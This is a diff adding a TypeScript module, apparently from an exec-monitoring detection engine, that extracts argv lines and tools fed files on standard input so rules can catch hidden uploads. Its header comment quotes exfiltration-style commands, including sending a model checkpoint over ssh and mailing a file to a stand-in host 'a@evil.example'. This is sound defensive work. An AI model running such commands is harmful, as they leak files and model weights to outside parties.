@@ -1,0 +1,84 @@
+/**
+ * Two readings of an exec's commands (exec-canonical.ts) that rules opt into by field name
+ * (event-fields.ts), because `attrs.exec.command` does not give them:
+ *
+ * - `argvLines` (`attrs.exec.argvLine`): each command that runs from argv itself, not from a
+ *   script, as one line of its words. `kubectl exec pod -- tar czf /tmp/m.tgz /mnt/ckpt` is the
+ *   argv `tar`, `czf`, …: a rule written for `tar c` over a script's command lines never saw it,
+ *   though `sh -c 'tar czf …'` is the same act. `attrs.exec.command` makes no line of argv on
+ *   purpose (exec-readings.ts: `kubectl cp` runs `tar cf - <path>` in the pod, which every rule
+ *   over its lines would read as packing); a rule over this field says what it makes of that.
+ * - `stdinFileTools` (`attrs.exec.stdinFromFile`): the tools a shell script feeds a file on
+ *   standard input (`ssh h 'cat > m.pt' < /mnt/ckpt/model.pt`, `openssl s_client -connect h:443
+ *   < f`, `mail -s x a@evil.example < f`, `0<f`, `<>f`): an upload whose file no argument names,
+ *   which neither an upload option nor a pipe (`| ssh`) shows. Only scripts have redirections:
+ *   a `<` in argv is a word the tool is given. `/dev/null`, `/dev/stdin` and descriptors are no
+ *   file. The tool is the command's tool word past wrappers (`sudo`, `nohup`, `timeout 5`…) as a
+ *   basename; the last redirection of standard input is the one the tool reads (the shell applies
+ *   them in order).
+ *
+ * Both are bounded (MAX_LINES, the reading's own bounds before that) and never throw.
+ */
+import { baseName } from './exec-canonical.js';
+import { isIoNumber } from './exec-decode-stage.js';
+import { joinWords } from './exec-readings.js';
+import { toolIndex, unwrap } from './exec-wrappers.js';
+
+/** Lines (or tools) one reading gives either field. */
+export const MAX_LINES = 64;
+/** Wrappers stepped over to find the tool a command runs. */
+const MAX_WRAPPERS = 8;
+/** Redirections of standard input from a file (`<&` duplicates a descriptor; here-docs are no file). */
+const STDIN_FROM_FILE: ReadonlySet<string> = new Set(['<', '<>']);
+/** Paths a redirection names that are no file's contents. */
+const NOT_A_FILE: ReadonlySet<string> = new Set(['/dev/null', '/dev/stdin', '/dev/zero', '/dev/fd/0']);
+
+/** The words of each argv command (not read from a script) with two or more words, joined by single spaces. */
+export function argvLines(commands: readonly (readonly string[])[], scripted: readonly boolean[]): string[] {
+  const out: string[] = [];
+  for (let c = 0; c < commands.length && out.length < MAX_LINES; c++) {
+    const words = commands[c]!;
+    if (scripted[c] === true || words.length < 2) continue;
+    out.push(joinWords(words));
+  }
+  return out;
+}
+
+/** The file standard input of a script's simple command is redirected from (the last such), or null. */
+export function stdinFile(words: readonly string[]): string | null {
+  let file: string | null = null;
+  for (let j = 0; j < words.length; j++) {
+    let fd = '';
+    if (isIoNumber(words, j)) fd = words[j++]!;
+    const op = words[j]!;
+    if (!STDIN_FROM_FILE.has(op) || (fd !== '' && fd !== '0')) continue;
+    const to = words[++j];
+    if (to === undefined || to === '' || NOT_A_FILE.has(to) || /^&?\d+$/.test(to)) continue;
+    file = to;
+  }
+  return file;
+}
+
+/** The tool a script's simple command runs: past reserved words, assignments, redirections and wrappers. */
+function toolOf(words: readonly string[]): string | null {
+  const w = words.slice();
+  let t = toolIndex(w);
+  for (let k = 0; k < MAX_WRAPPERS && t < w.length; k++) {
+    const u = unwrap(w, t, baseName(w[t]!));
+    if (u === null || u.script) break;
+    t = u.next;
+  }
+  return t < w.length ? baseName(w[t]!) : null;
+}
+
+/** The tools of the scripts' commands that read a file on standard input, in order, each once. */
+export function stdinFileTools(commands: readonly (readonly string[])[], scripted: readonly boolean[]): string[] {
+  const out: string[] = [];
+  for (let c = 0; c < commands.length && out.length < MAX_LINES; c++) {
+    const words = commands[c]!;
+    if (scripted[c] !== true || stdinFile(words) === null) continue;
+    const tool = toolOf(words);
+    if (tool !== null && tool !== '' && !out.includes(tool)) out.push(tool);
+  }
+  return out;
+}
